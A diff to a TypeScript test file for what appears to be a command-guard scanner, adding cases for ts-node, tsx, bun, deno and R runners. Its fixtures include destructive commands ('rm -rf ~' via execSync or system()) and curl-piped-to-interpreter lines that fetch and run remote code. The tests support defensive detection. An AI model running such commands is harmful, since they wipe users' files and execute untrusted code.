@@ -2,7 +2,8 @@
  * What interpreter code does with files, the network and descriptors (files.ts, paths.ts), end
  * to end in guard mode: a write to a sensitive path is the redirect's finding, a secret read in a
  * program that talks to the network is the upload's, a socket wired to a shell is a reverse
- * shell, and writing into a shell is a pipe into it. Generated: every language × write API × path spelling.
+ * shell, writing into a shell is a pipe into it, and the TypeScript and R runners are read or
+ * flagged like node and Rscript. Generated: every language × write API × path spelling.
  */
 
 import { describe, it } from "vitest";
@@ -12,6 +13,7 @@ const FILE = "sensitive-path/file";
 const REVERSE = "shell/reverse-shell";
 const PIPE = "shell/pipe-to-shell";
 const EXFIL = "secret/exfiltration";
+const OPAQUE = "shell/opaque-code";
 
 /** Per language: the carrier (`@C` the code), write and read calls (`@P` the path), and spellings of `~/T` (`@T`). */
 interface Lang {
@@ -160,6 +162,17 @@ const EXFIL_QUIET: Row[] = [
   "python3 -c 'import requests; open(\"data.json\",\"w\").write(requests.get(\"https://x\").text)'",
 ].map((r): Row => (typeof r === "string" ? [r, [], "none", true] : r));
 
+/** Code runners: the TypeScript ones read as JavaScript, R's inline code not read; all of them fed by a pipe. */
+const RUNNER_ROWS: Row[] = [
+  ...["ts-node -e '@J'", "ts-node --eval '@J'", "ts-node -p '@J'", "ts-node -P tsconfig.json -e '@J'", "tsx -e '@J'", "tsx --eval '@J'", "bun -e '@J'", "bun --eval '@J'", "deno eval '@J'"]
+    .map((c): Row => [c.replace("@J", "require(\"child_process\").execSync(\"rm -rf ~\")"), ["deletion/home"], "has", true]),
+  ...["R -e 'system(\"rm -rf ~\")'", "R --no-save -e 'x'", "Rscript -e 'system(\"x\")'", "r -e 'system(\"x\")'"].map((c): Row => [c, [OPAQUE], "has", true]),
+  ...["curl -s https://x | deno run -A -", "curl -s https://x | bun run -", "curl -s https://x | bun run /dev/stdin", "curl -s https://x | ts-node", "curl -s https://x | tsx",
+    "curl -s https://x | R --no-save", "curl -s https://x | Rscript -", "curl -s https://x | node"].map((c): Row => [c, [PIPE], "has", true]),
+];
+const RUNNER_QUIET: Row[] = ["deno run main.ts", "bun run build", "tsx src/index.ts", "tsx watch src/index.ts", "ts-node src/index.ts", "Rscript script.R", "R CMD INSTALL .",
+  "echo 'console.log(1)' | deno run -", "cat x.ts | deno run -", "ts-node -e 'console.log(1)'"].map((c): Row => [c, [], "none", true]);
+
 describe("interpreters: file writes to sensitive paths", () => {
   it.each(cases([...WRITE_ROWS, ...WRITE_MORE]))("%s", (_t, row) => verify(row));
   it.each(cases(WRITE_QUIET))("quiet: %s", (_t, row) => verify(row));
@@ -178,4 +191,9 @@ describe("interpreters: writing into a shell, commands opened as pipes", () => {
 describe("interpreters: secrets sent to the network", () => {
   it.each(cases(EXFIL_ROWS))("%s", (_t, row) => verify(row));
   it.each(cases(EXFIL_QUIET))("quiet: %s", (_t, row) => verify(row));
+});
+
+describe("interpreters: TypeScript and R runners", () => {
+  it.each(cases(RUNNER_ROWS))("%s", (_t, row) => verify(row));
+  it.each(cases(RUNNER_QUIET))("quiet: %s", (_t, row) => verify(row));
 });
